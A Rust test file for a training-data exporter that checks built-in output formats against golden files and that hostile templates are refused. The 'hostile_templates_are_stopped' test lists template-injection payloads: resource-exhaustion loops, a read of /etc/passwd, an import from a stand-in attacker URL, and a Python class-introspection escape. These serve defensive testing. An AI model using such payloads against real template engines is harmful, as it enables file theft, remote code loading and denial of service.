//! Every built-in against golden files, and what templates may not do.

use std::{fs, path::PathBuf, sync::Arc, time::Instant};

use jiff::Timestamp;
use serde_json::Value;

use super::{
    builtin::{RAW, built_ins, find},
    export::{ExportOptions, Exporter, Reasoning, RowError, System, ToolArgs},
};
use crate::model::{dataset::Dataset, example::Example, export_template::Unit, id::DatasetId, message::Role};

fn dataset() -> Dataset {
    Dataset {
        id: DatasetId(1),
        name: "contract-clauses".to_owned(),
        archived: false,
        created_at: Timestamp::UNIX_EPOCH,
        updated_at: Timestamp::UNIX_EPOCH,
        count: 15,
    }
}

fn fixture(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/export").join(name)
}

fn examples() -> Vec<Example> {
    let text = fs::read_to_string(fixture("examples.json")).expect("the examples");
    serde_json::from_str(&text).expect("examples")
}

/// The example with this id, in a format, with options.
fn written(format: &str, id: u64, options: ExportOptions) -> Result<Value, String> {
    let template = find(format).expect("a built-in").template;
    let example = examples().into_iter().find(|e| e.id.0 == id).expect("an example");
    let written = line(&compiled(template, options), &example);
    written.map(|line| serde_json::from_str(&line).expect("JSON")).map_err(|error| error.message)
}

fn compiled(template: &str, options: ExportOptions) -> Exporter {
    Exporter::new(template, Unit::Example, options).expect("a good template")
}

/// The one line of an example.
fn line(exporter: &Exporter, example: &Example) -> Result<String, RowError> {
    let mut lines = exporter.lines(example.clone(), &Arc::new(dataset()))?;
    assert_eq!(lines.len(), 1);
    Ok(lines.remove(0))
}

fn with_own_template(template: &str) -> Result<String, RowError> {
    let exporter = Exporter::new(template, Unit::Example, ExportOptions::default()).expect("a good template");
    line(&exporter, &examples()[0])
}

#[test]
fn every_built_in_writes_what_its_golden_file_says() {
    let mut stale = Vec::new();
    for format in built_ins() {
        let exporter =
            Exporter::new(format.template, format.unit, ExportOptions::default()).expect(format.id);
        let (mut rows, mut refused) = (String::new(), String::new());
        for example in examples() {
            match exporter.lines(example, &Arc::new(dataset())) {
                Ok(lines) => lines.into_iter().for_each(|line| rows += &(line + "\n")),
                Err(error) => refused += &(error.to_string() + "\n"),
            }
        }
        for (suffix, text) in [("jsonl", rows), ("refused.txt", refused)] {
            let path = fixture(&format!("{}.{suffix}", format.id));
            if fs::read_to_string(&path).unwrap_or_default() != text {
                fs::write(&path, text).expect("written");
                stale.push(path);
            }
        }
    }
    assert!(stale.is_empty(), "written anew, look at them and commit them: {stale:?}");
}

#[test]
fn every_row_is_one_line_for_every_reader() {
    for format in built_ins() {
        let text = fs::read_to_string(fixture(&format!("{}.jsonl", format.id))).expect("a golden file");
        assert!(!text.contains(['\u{2028}', '\u{2029}', '\u{85}', '\r', '\u{feff}']), "{}", format.id);
        assert!(text.ends_with('\n') && !text.contains("\n\n"), "{}", format.id);
        for line in text.lines() {
            assert!(serde_json::from_str::<Value>(line).expect("JSON").is_object());
        }
    }
}

#[test]
fn the_raw_format_loses_nothing() {
    for example in examples() {
        let raw = Exporter::new(find(RAW).expect("raw").template, Unit::Example, ExportOptions::default())
            .expect("raw");
        let line = line(&raw, &example).expect("every example");
        assert_eq!(serde_json::from_str::<Example>(&line).expect("an example"), example);
    }
}

#[test]
fn a_clone_of_the_raw_format_writes_the_same() {
    let clone = Exporter::new("{{ example|tojson }}", Unit::Example, ExportOptions::default())
        .expect("a good template");
    let raw = Exporter::new(find(RAW).expect("raw").template, Unit::Example, ExportOptions::default())
        .expect("raw");
    for example in examples() {
        assert_eq!(line(&clone, &example), line(&raw, &example));
    }
}

#[test]
fn every_call_is_found_where_trainers_look() {
    for format in [
        "openai_chat",
        "openai_tools",
        "mlx_chat",
        "trl_tools",
        "axolotl_chat",
        "tool_calling",
        "mistral_finetune",
    ] {
        let row = written(format, 6, ExportOptions::default()).expect(format);
        let calls = row["messages"][1]["tool_calls"].as_array().expect("calls in the assistant's turn");
        assert_eq!(calls.len(), 3, "{format}");
        let ids: Vec<_> = calls.iter().map(|call| call["id"].as_str().expect("an id")).collect();
        assert!(
            ids.iter().all(|id| id.len() == 9 && id.bytes().all(|b| b.is_ascii_alphanumeric())),
            "{ids:?}"
        );
        let answers: Vec<_> =
            (2..5).map(|turn| row["messages"][turn]["tool_call_id"].as_str().expect("an id")).collect();
        assert_eq!(answers, [ids[1], ids[0], ids[2]], "{format}: each result answers its own call");
        assert_eq!(
            calls[0]["function"]["arguments"].is_string(),
            !["mlx_chat", "trl_tools", "tool_calling"].contains(&format)
        );
    }
}

#[test]
fn the_form_of_arguments_can_be_chosen() {
    let options = |form| ExportOptions { tool_args: Some(form), ..ExportOptions::default() };
    let arguments = |format, form| {
        written(format, 5, options(form)).expect("a row")["messages"][2]["tool_calls"][0]["function"]["arguments"].clone()
    };
    let text = r#"{"street":"Mill Lane","number":4,"area":{"z":1,"a":0.5,"big":12345678901234567}}"#;
    assert_eq!(arguments("mlx_chat", ToolArgs::String), text);
    assert_eq!(arguments("openai_chat", ToolArgs::Object).to_string(), text);
}

#[test]
fn reasoning_is_left_out_or_written_where_it_is_wanted() {
    let answer = |format, reasoning| {
        written(format, 7, ExportOptions { reasoning, ..ExportOptions::default() })
            .map(|row| row["messages"][1].clone())
    };
    let left_out = answer("mlx_chat", Reasoning::Drop).expect("a row");
    assert_eq!(left_out.as_object().expect("a turn").len(), 2);
    let field = answer("mlx_chat", Reasoning::Field).expect("a row");
    assert_eq!(field["reasoning_content"], "Clause 7 waives repairs. Such waivers are void.");
    let think = answer("openai_chat", Reasoning::Think).expect("a row");
    assert_eq!(
        think["content"],
        "<think>\nClause 7 waives repairs. Such waivers are void.\n</think>\n\nNo: it waives a right you cannot waive."
    );
    assert!(answer("openai_chat", Reasoning::Field).expect_err("refused").contains("no field"));
}

#[test]
fn system_prompts_can_be_left_out() {
    let dropped = || ExportOptions { system: System::Drop, ..ExportOptions::default() };
    assert_eq!(written("openai_chat", 1, dropped()).expect("a row")["messages"][0]["role"], "user");
    assert_eq!(written("alpaca", 1, dropped()).expect("a row")["system"], "");
    assert_eq!(written("raw", 1, dropped()).expect("a row")["system_prompt"], "");
    assert!(written("mlx_completions", 1, dropped()).is_ok());
    assert!(written("mlx_completions", 1, ExportOptions::default()).is_err());
}

#[test]
fn the_start_token_can_be_left_out() {
    let text = |id, bos| {
        written("llama_mistral", id, ExportOptions { bos, ..ExportOptions::default() }).expect("a row")["text"].clone()
    };
    assert_eq!(
        text(3, true),
        "<s>[INST] What is a deposit? [/INST] Money the landlord holds while you live there.</s>"
    );
    assert_eq!(
        text(3, false),
        "[INST] What is a deposit? [/INST] Money the landlord holds while you live there.</s>"
    );
    let two = text(4, false);
    assert!(
        two.as_str()
            .is_some_and(|t| t.starts_with("[INST] You explain") && t.contains("</s><s>[INST] And a cat?")),
        "{two}"
    );
}

#[test]
fn ids_and_aliases_are_those_that_other_programs_know() {
    assert_eq!(find("openai_chatml").map(|f| f.id), Some("openai_chat"));
    for id in ["raw", "openai_chat", "mlx_chat", "mlx_instruct", "llama_mistral", "tool_calling"] {
        assert_eq!(
            find(id).map(|f| f.file_name),
            Some(format!("{{dataset}}.{id}.{{date}}.jsonl")).as_deref()
        );
    }
    assert!(find("yaml").is_none());
}

#[test]
fn a_template_may_be_laid_out_over_lines_and_see_every_member() {
    let row = with_own_template(
        r#"{
            "prompt" : {{ variation_prompt | tojson }},
            "clause": {{ slots.clause | tojson }}, "stars": {{ rating }},
            "model": {{ source.model | tojson }}, "from": {{ dataset | tojson }},
            "roles": {{ messages | map(attribute="role") | list | tojson }}
        }"#,
    );
    assert_eq!(
        row.as_deref(),
        Ok(
            r#"{"prompt":"Explain: the tenant pays rent in advance.","clause":"the tenant pays rent in advance","stars":5,"model":"gemma3:4b","from":"contract-clauses","roles":["system","user","assistant"]}"#
        )
    );
}

#[track_caller]
fn check_row_error(template: &str, place: Option<(usize, usize)>, message: &str) {
    let error = with_own_template(template).expect_err("refused");
    assert_eq!((error.line.zip(error.column), error.message.as_str()), (place, message));
    assert_eq!(error.example.0, 1);
}

#[test]
fn what_is_wrong_with_a_row_is_said_with_its_place() {
    check_row_error(
        "{\"a\":\n  {{ variaton_prompt | tojson }}}",
        Some((2, 24)),
        "undefined value: there is no such value to write",
    );
    check_row_error(
        "{\"ä\": {{ {\"a\": slots.klause} | tojson }}}",
        Some((1, 32)),
        "undefined value: there is no such value to write",
    );
    check_row_error("{{ refuse(\"it is too old\") }}", Some((1, 4)), "it is too old");
    check_row_error(
        "[1]",
        None,
        "the row is not one JSON object: invalid type: sequence, expected one JSON object at line 1 column 0 of the row",
    );
    check_row_error(
        "{\"a\": \"{{ output }}",
        None,
        "the row is not one JSON object: EOF while parsing a string at line 1 column 53 of the row",
    );
    check_row_error(
        "{} {}",
        None,
        "the row is not one JSON object: trailing characters at line 1 column 4 of the row",
    );
    check_row_error(
        "{\"a\": [{\"b\": 1, \"b\": 2}]}",
        None,
        "the row is not one JSON object: the key `b` stands twice at line 1 column 23 of the row",
    );
    check_row_error(
        "{\"a\": {{ (1e308 * 10) | tojson }}}",
        Some((1, 25)),
        "could not serialize to value: this cannot be JSON: it is not a finite number",
    );
}

#[test]
fn a_template_that_cannot_be_read_is_said_with_its_place() {
    let error = Exporter::new("{\n  {{ output | tojson }", Unit::Example, ExportOptions::default())
        .expect_err("refused");
    assert_eq!((error.line, error.column), (2, 22), "{error}");
    let error = Exporter::new(&" ".repeat(256 * 1024 + 1), Unit::Example, ExportOptions::default())
        .expect_err("refused");
    assert_eq!(error.message, "it is longer than 256 KiB");
}

#[test]
fn hostile_templates_are_stopped() {
    let nested =
        |open: &str, close: &str| format!("{{{{ {}1{} }}}}", open.repeat(20_000), close.repeat(20_000));
    let hostile = [
        "{% for a in range(9999) %}{% for b in range(9999) %}{% for c in range(9999) %}x{% endfor %}{% endfor %}{% endfor %}",
        "{% set ns = namespace(t='x') %}{% for i in range(64) %}{% set ns.t = ns.t ~ ns.t %}{% endfor %}{{ ns.t }}",
        "{% set ns = namespace(t='x') %}{% for i in range(64) %}{% set ns.t = ns.t | replace('x', 'xx') %}{% endfor %}{{ ns.t }}",
        "{{ 'x' * 1000000000 }}",
        "{{ [0] * 1000000000 }}",
        "{{ range(100000000) | list | length }}",
        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
        "{% for x in [[[]]] recursive %}{{ loop([[[]]]) }}{% endfor %}",
        "{% include '/etc/passwd' %}",
        "{% import 'https://evil.example/x' as x %}{{ x.y() }}",
        "{% extends 'row' %}",
        "{% include 'row' %}",
        "{{ ''.__class__.__mro__ }}",
        "{{ '%1000000000d' | format(1) }}",
        "{{ 'x\nx' | indent(1000000000) }}",
        "{{ [1] | batch(1000000000, 0) | list }}",
        "{{ [1] | slice(1000000000, 0) | list }}",
        "{{ 2 ** 1000000000 }}",
        "{{ 1.5 | round(1000000000) }}{{ 10 ** 400 }}",
        "{% set ns = namespace(t=[]) %}{% for i in range(9999) %}{% set ns.t = [ns.t] %}{% endfor %}{{ ns.t | tojson }}",
        "{% set ns = namespace(t=[]) %}{% for i in range(9999) %}{% set ns.t = [ns.t] %}{% endfor %}{{ ns.t }}",
        "{% set ns = namespace(t=[]) %}{% for i in range(9999) %}{% set ns.t = {'a': ns.t} %}{% endfor %}{{ ns.t == ns.t }}",
        "{% for i in range(9999) %}{{ example | tojson }}{% endfor %}",
        "{% for i in range(9999) %}{{ chat() | tojson }}{% endfor %}",
        "{{ debug() * 100000 }}",
        &nested("(", ")"),
        &nested("[", "]"),
        &nested("not ", ""),
        &nested("", "+1"),
        &nested("", ".a"),
        &nested("", "|d"),
        &format!("{{{{ {}1 }}}}", "-".repeat(250_000)),
        &format!("{{% if 0 %}}{}{{% endif %}}", "{% elif 0 %}".repeat(20_000)),
        &format!("{}x{}", "{% if 1 %}".repeat(20_000), "{% endif %}".repeat(20_000)),
    ];
    for template in hostile {
        assert_stopped(template, &examples()[0]);
    }
}

#[track_caller]
fn assert_stopped(template: &str, example: &Example) {
    let started = Instant::now();
    let outcome = Exporter::new(template, Unit::Example, ExportOptions::default())
        .map_err(|error| error.message)
        .and_then(|exporter| line(&exporter, example).map_err(|error| error.message));
    let shown: String = template.chars().take(80).collect();
    assert!(outcome.is_err(), "{shown}");
    assert!(started.elapsed().as_millis() < 1000, "{shown}: {:?}", started.elapsed());
}

#[test]
fn hostile_templates_are_stopped_on_large_examples_too() {
    let mut example = examples().remove(0);
    example.messages[1].content = "clause ".repeat(1_000_000);
    for template in [
        "{% set ns = namespace(t=[]) %}{% for i in range(99999) %}{% set ns.t = [ns.t] %}{% endfor %}{{ ns.t }}",
        "{% set ns = namespace(t=[]) %}{% for i in range(99999) %}{% set ns.t = {'a': ns.t} %}{% endfor %}{{ ns.t | tojson }}",
        "{% set ns = namespace(t='x') %}{% for i in range(64) %}{% set ns.t = ns.t ~ ns.t %}{% endfor %}{{ ns.t }}",
        "{% for i in range(99999) %}{{ chat() | tojson }}{% endfor %}",
        "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",
    ] {
        assert_stopped(template, &example);
    }
}

#[test]
fn a_large_example_is_written_and_one_beyond_measure_is_refused() {
    let mut example = examples().remove(0);
    let exporter = Exporter::new(
        find("openai_chat").expect("a format").template,
        Unit::Example,
        ExportOptions::default(),
    )
    .expect("good");
    let answer = |megabytes: usize| "clause \"7\"\n".repeat(megabytes * 1024 * 1024 / 11);
    let last = example.messages.iter().rposition(|m| m.role == Role::Assistant).expect("an answer");
    example.messages[last].content = answer(5);
    let large = line(&exporter, &example).expect("a large row");
    assert!(large.len() > 5 * 1024 * 1024);
    example.messages[last].content = answer(9);
    let error = line(&exporter, &example).expect_err("refused");
    assert_eq!(error.message, "the row is longer than 8 MiB");
}
